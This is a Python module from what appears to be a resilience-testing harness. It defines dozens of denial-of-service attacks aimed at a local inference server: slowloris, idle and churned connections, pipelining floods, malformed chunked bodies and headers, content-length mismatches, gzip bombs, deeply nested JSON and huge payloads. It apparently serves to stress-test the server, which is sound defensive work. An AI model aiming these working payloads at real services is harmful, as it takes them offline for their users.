"""Attacks on HTTP/1.1, on JSON, and on the routes that cost something."""

from __future__ import annotations

import gzip
import random
from collections.abc import Callable, Iterator
from functools import lru_cache

from tools.siege.attack import Attack, HangUp, Pause, Port, Step, attack
from tools.siege.models import ATTACKED, LARGE, REPEATED

HOST = b"Host: localhost\r\n"
INFER = b"/v2/models/" + ATTACKED + b"/infer"
BLOB_BYTES = 64 << 10
BODY_LIMIT = 60 << 20
"""A little below what the server takes by default."""
_TINY_TENSORS = (
    b'{"name":"INPUT0","datatype":"FP32","shape":[1],"data":[1]},'
    b'{"name":"INPUT1","datatype":"FP32","shape":[1],"data":[1]}'
)


def post(path: bytes, body: bytes, *fields: bytes) -> bytes:
    lines = b"".join(field + b"\r\n" for field in fields)
    return b"POST %b HTTP/1.1\r\n%b%bContent-Length: %d\r\n\r\n%b" % (path, HOST, lines, len(body), body)


def get(path: bytes, *fields: bytes) -> bytes:
    return b"GET %b HTTP/1.1\r\n%b%b\r\n" % (path, HOST, b"".join(field + b"\r\n" for field in fields))


def _repeated(request: bytes, size: int = BLOB_BYTES) -> bytes:
    return request * max(1, size // len(request))


def _forever(blob: bytes) -> Iterator[Step]:
    while True:
        yield blob


# ------------------------------------------------------------------------------------------------- slowness and hoarding


@attack("CVE-2007-6750", Port.HTTP, sockets=20)
def slowloris(dice: random.Random) -> Iterator[Step]:
    """Connections, 20 for each, whose headers come byte by byte and never end."""
    yield b"POST %b HTTP/1.1\r\n" % INFER + HOST
    while True:
        yield b"X-%d: " % dice.randrange(1000)
        for _ in range(20):
            yield Pause(0.1)
            yield b"a"
        yield b"\r\n"


@attack("CVE-2007-6750", Port.HTTP, sockets=20)
def slow_bodies(dice: random.Random) -> Iterator[Step]:
    """Connections, 20 for each, whose bodies of 1 MB come byte by byte."""
    yield b"POST %b HTTP/1.1\r\n%bContent-Length: 1000000\r\n\r\n" % (INFER, HOST)
    while True:
        yield b" "
        yield Pause(0.1)


@attack("RFC 9112, 9.5", Port.HTTP)
def unfinished_bodies(dice: random.Random) -> Iterator[Step]:
    """A body of 60 MB of which all but the last byte is sent."""
    yield b"POST %b HTTP/1.1\r\n%bContent-Length: %d\r\n\r\n" % (INFER, HOST, BODY_LIMIT + 1)
    for _ in range(BODY_LIMIT >> 16):
        yield b" " * (1 << 16)


@attack("RFC 9112, 9.5", Port.HTTP, reads=False)
def unread_answers(dice: random.Random) -> Iterator[Step]:
    """Requests for 32 MB of zeros whose answers nobody reads."""
    size = b'{"name":"SIZE","datatype":"INT32","shape":[1],"data":[8388608]}'
    body = b'{"inputs":[%b],"parameters":{"binary_data_output":true}}' % size
    yield post(b"/v2/models/" + LARGE + b"/infer", body) * 20


@attack("RFC 9112, 9.5", Port.HTTP, reads=False)
def generate_stream_unread(dice: random.Random) -> Iterator[Step]:
    """Server-sent events, a million of 16 KB each, that nobody reads."""
    yield post(b"/v2/models/" + REPEATED + b"/generate_stream", b'{"COUNT": 1000000}')


@attack("CWE-770", Port.HTTP, sockets=40)
def idle_connections(dice: random.Random) -> Iterator[Step]:
    """Connections, 40 for each, that send nothing."""
    yield from ()


@attack("CWE-770", Port.GRPC, sockets=40)
def idle_connections_grpc(dice: random.Random) -> Iterator[Step]:
    """Connections to the port of gRPC, 40 for each, that send nothing."""
    yield from ()


@attack("CWE-770", Port.HTTP, sockets=4)
def connection_churn(dice: random.Random) -> Iterator[Step]:
    """Connections that are opened and reset, with and without half a request."""
    while True:
        if dice.random() < 0.5:
            yield get(INFER)[:30]
        yield Pause(0)
        yield HangUp()


@attack("CWE-770", Port.GRPC, sockets=4)
def connection_churn_grpc(dice: random.Random) -> Iterator[Step]:
    """Connections to the port of gRPC that are opened and reset, with and without half a preface."""
    while True:
        if dice.random() < 0.5:
            yield b"PRI * HTTP/2.0\r\n"
        yield Pause(0)
        yield HangUp()


# ------------------------------------------------------------------------------------------------- framing


@attack("RFC 9112, 9.3.2", Port.HTTP)
def pipelined_health(dice: random.Random) -> Iterator[Step]:
    """The smallest requests, one behind the other, as fast as can be."""
    yield from _forever(_repeated(get(b"/v2/health/live")))


@attack("RFC 9112, 9.3.2", Port.HTTP)
def pipelined_inference(dice: random.Random) -> Iterator[Step]:
    """Whole inference requests, one behind the other, as fast as can be."""
    yield from _forever(_repeated(post(INFER, b'{"inputs":[%b]}' % _TINY_TENSORS)))


@attack("RFC 9112, 9.3.2", Port.HTTP, reads=False)
def pipelined_unread(dice: random.Random) -> Iterator[Step]:
    """The smallest requests, one behind the other, whose answers nobody reads."""
    yield from _forever(_repeated(get(b"/v2/health/live")))


@attack("RFC 9112, 2.2", Port.HTTP)
def pipelined_garbage(dice: random.Random) -> Iterator[Step]:
    """A request and 64 KB of noise behind it."""
    noise = dice.randbytes(BLOB_BYTES)
    yield get(b"/v2/health/live") + noise
    yield from _forever(noise)


@attack("RFC 9112, 2.2", Port.HTTP)
def empty_lines(dice: random.Random) -> Iterator[Step]:
    """Line ends in front of a request that does not come."""
    yield from _forever(b"\r\n" * (BLOB_BYTES // 2))


def _chunked(path: bytes) -> bytes:
    return b"POST %b HTTP/1.1\r\n%bTransfer-Encoding: chunked\r\n\r\n" % (path, HOST)


@attack("RFC 9112, 7.1", Port.HTTP)
def one_byte_chunks(dice: random.Random) -> Iterator[Step]:
    """A body in chunks of one byte."""
    yield _chunked(INFER)
    yield from _forever(_repeated(b"1\r\n \r\n"))


@attack("RFC 9112, 7.1.1", Port.HTTP)
def chunk_extensions(dice: random.Random) -> Iterator[Step]:
    """A body in chunks of one byte, each with an extension of 4 KB (as in CVE-2023-39326)."""
    yield _chunked(INFER)
    yield from _forever(_repeated(b"1;a=%b\r\n \r\n" % (b"b" * 4096)))


@attack("RFC 9112, 7.1.1", Port.HTTP)
def endless_chunk_extension(dice: random.Random) -> Iterator[Step]:
    """One chunk whose extension does not end."""
    yield _chunked(INFER) + b"1;a="
    yield from _forever(b"b" * BLOB_BYTES)


@attack("RFC 9112, 7.1.2", Port.HTTP)
def endless_trailers(dice: random.Random) -> Iterator[Step]:
    """Trailers behind a body that do not end."""
    yield _chunked(INFER) + b"0\r\n"
    yield from _forever(_repeated(b"a: b\r\n"))


@lru_cache
def _many_headers() -> bytes:
    dice = random.Random(1)
    fields = [[b"x-%d: %d" % (number, dice.randrange(1 << 20)) for number in range(250)] for _ in range(20)]
    return b"".join(get(b"/v2/health/live", *those) for those in fields)


@attack("RFC 9110, 5.4", Port.HTTP)
def many_headers(dice: random.Random) -> Iterator[Step]:
    """Requests with 250 headers, other ones each time."""
    return _forever(_many_headers())


@attack("RFC 9110, 5.4", Port.HTTP)
def too_many_headers(dice: random.Random) -> Iterator[Step]:
    """A request whose headers, four bytes each, do not end."""
    yield get(b"/v2/health/live")[:-2]
    yield from _forever(_repeated(b"a:b\r\n"))


@lru_cache
def _huge_headers() -> bytes:
    values = [random.Random(seed).randbytes(30_000).hex().encode() for seed in range(10)]
    return b"".join(get(b"/v2/health/live", b"X-A: " + value) for value in values)


@attack("RFC 9110, 5.4", Port.HTTP)
def huge_header_values(dice: random.Random) -> Iterator[Step]:
    """Requests with one header of 60 KB, another one each time."""
    return _forever(_huge_headers())


@attack("RFC 9110, 5.4", Port.HTTP)
def endless_header(dice: random.Random) -> Iterator[Step]:
    """A request with a header whose value does not end."""
    yield get(b"/v2/health/live")[:-2] + b"X-A: "
    yield from _forever(b"a" * BLOB_BYTES)


@attack("RFC 9112, 6.3", Port.HTTP)
def short_content_length(dice: random.Random) -> Iterator[Step]:
    """Requests whose bodies are longer than they say, so that the rest is read as the next request."""
    body = b'{"inputs":[%b]}' % _TINY_TENSORS
    yield from _forever(_repeated(post(INFER, body[:20]) + body[20:] + b"\r\n"))


@attack("RFC 9112, 6.3", Port.HTTP, sockets=4)
def long_content_length(dice: random.Random) -> Iterator[Step]:
    """Requests whose bodies are shorter than they say, and the client gone behind them."""
    body = b'{"inputs":[%b]}' % _TINY_TENSORS
    while True:
        yield b"POST %b HTTP/1.1\r\n%bContent-Length: %d\r\n\r\n%b" % (INFER, HOST, len(body) + 1000, body)
        yield Pause(0.01)
        yield HangUp()


@attack("RFC 9110, 7.8", Port.HTTP)
def pipelined_upgrades(dice: random.Random) -> Iterator[Step]:
    """400 requests for an upgrade, one behind the other."""
    upgrade = get(b"/v2/health/live", b"Connection: Upgrade", b"Upgrade: h2c", b"HTTP2-Settings: AAMAAABk")
    yield from _forever(upgrade * 400)


@attack("RFC 9110, 10.1.1", Port.HTTP, sockets=20)
def expect_without_body(dice: random.Random) -> Iterator[Step]:
    """Connections, 20 for each, that ask for permission to send a body, and do not send it."""
    yield b"POST %b HTTP/1.1\r\n%bExpect: 100-continue\r\nContent-Length: 1000000\r\n\r\n" % (INFER, HOST)


# ------------------------------------------------------------------------------------------------- JSON


def _tensor(name: bytes, datatype: bytes, count: int, element: bytes) -> bytes:
    data = b",".join([element] * count)
    return b'{"name":"%b","datatype":"%b","shape":[%d],"data":[%b]}' % (name, datatype, count, data)


def _document(*inputs: bytes) -> bytes:
    return b'{"inputs":[%b]}' % b",".join(inputs)


def _two_vectors(count: int) -> bytes:
    return _document(_tensor(b"INPUT0", b"FP32", count, b"1.5"), _tensor(b"INPUT1", b"FP32", count, b"1.5"))


def _nested_tensor(depth: int) -> bytes:
    data = b"[" * depth + b"1" + b"]" * depth
    return b'{"name":"INPUT0","datatype":"FP32","shape":[1],"data":%b}' % data


def _wide_parameters(count: int) -> bytes:
    parameters = b",".join(b'"%d":1' % number for number in range(count))
    return b'{"parameters":{%b},"inputs":[%b]}' % (parameters, _TINY_TENSORS)


_BODIES: dict[str, Callable[[], bytes]] = {
    "a million inputs": lambda: _document(*[_tensor(b"a", b"FP32", 1, b"1")] * 1_000_000),
    "a million empty inputs": lambda: _document(*[b"{}"] * 1_000_000),
    "blanks": lambda: _document(b" " * BODY_LIMIT),
    "zeros": lambda: bytes(1 << 30),
    "brackets": lambda: b'{"inputs":' + b"[" * 1_000_000,
    "nested tensors": lambda: _document(*[_nested_tensor(900)] * 500),
    "parameters": lambda: _wide_parameters(3_000_000),
    "texts": lambda: _document(_tensor(b"INPUT0", b"BYTES", 4_000_000, b'"a"')),
    "numbers": lambda: _two_vectors(BODY_LIMIT // 8),
    "a few numbers": lambda: _two_vectors(25_000),
}


@lru_cache
def _request(body: str, *, is_compressed: bool = False) -> bytes:
    data = _BODIES[body]()
    if not is_compressed:
        return post(INFER, data)
    fields = [b"Content-Encoding: gzip"] + [b"Inference-Header-Content-Length: 100"] * (body == "zeros")
    return post(INFER, gzip.compress(data, 6), *fields)


@attack("CWE-409", Port.HTTP)
def json_gzip_bomb(dice: random.Random) -> Iterator[Step]:
    """A compressed document of 7 KB with a million inputs."""
    return _forever(_request("a million empty inputs", is_compressed=True))


@attack("CWE-409", Port.HTTP)
def blank_gzip_bomb(dice: random.Random) -> Iterator[Step]:
    """A compressed document of 60 KB that becomes 60 MB of blanks."""
    return _forever(_request("blanks", is_compressed=True))


@attack("CWE-409", Port.HTTP)
def raw_gzip_bomb(dice: random.Random) -> Iterator[Step]:
    """A compressed body of 1 MB that becomes 1 GB, with binary tensors as it says."""
    return _forever(_request("zeros", is_compressed=True))


@attack("CWE-674", Port.HTTP)
def deep_json(dice: random.Random) -> Iterator[Step]:
    """Documents with a million brackets inside each other."""
    return _forever(_request("brackets"))


@attack("CWE-674", Port.HTTP)
def nested_json(dice: random.Random) -> Iterator[Step]:
    """Documents with 500 tensors of 900 brackets inside each other."""
    return _forever(_request("nested tensors"))


@attack("CWE-770", Port.HTTP)
def million_inputs(dice: random.Random) -> Iterator[Step]:
    """Documents with a million inputs."""
    return _forever(_request("a million inputs"))


@attack("CWE-770", Port.HTTP)
def million_parameters(dice: random.Random) -> Iterator[Step]:
    """Documents with three million parameters."""
    return _forever(_request("parameters"))


@attack("CWE-770", Port.HTTP)
def long_string_arrays(dice: random.Random) -> Iterator[Step]:
    """Documents with a tensor of four million texts."""
    return _forever(_request("texts"))


@attack("CWE-770", Port.HTTP)
def big_json(dice: random.Random) -> Iterator[Step]:
    """Good requests of 60 MB of JSON, with two vectors of numbers."""
    return _forever(_request("numbers"))


@attack("CWE-770", Port.HTTP)
def middling_json(dice: random.Random) -> Iterator[Step]:
    """Good requests of 200 KB of JSON, just small enough to be read at once."""
    return _forever(_request("a few numbers"))


# ------------------------------------------------------------------------------------------------- routes


@attack("CWE-770", Port.METRICS)
def metrics_flood(dice: random.Random) -> Iterator[Step]:
    """Scrapes of the metrics, one behind the other."""
    yield from _forever(_repeated(get(b"/metrics")))


@attack("CWE-770", Port.HTTP)
def repository_index_flood(dice: random.Random) -> Iterator[Step]:
    """Questions for the index of the repository, one behind the other."""
    yield from _forever(_repeated(post(b"/v2/repository/index", b"")))


ATTACKS = tuple(value for value in tuple(globals().values()) if isinstance(value, Attack))
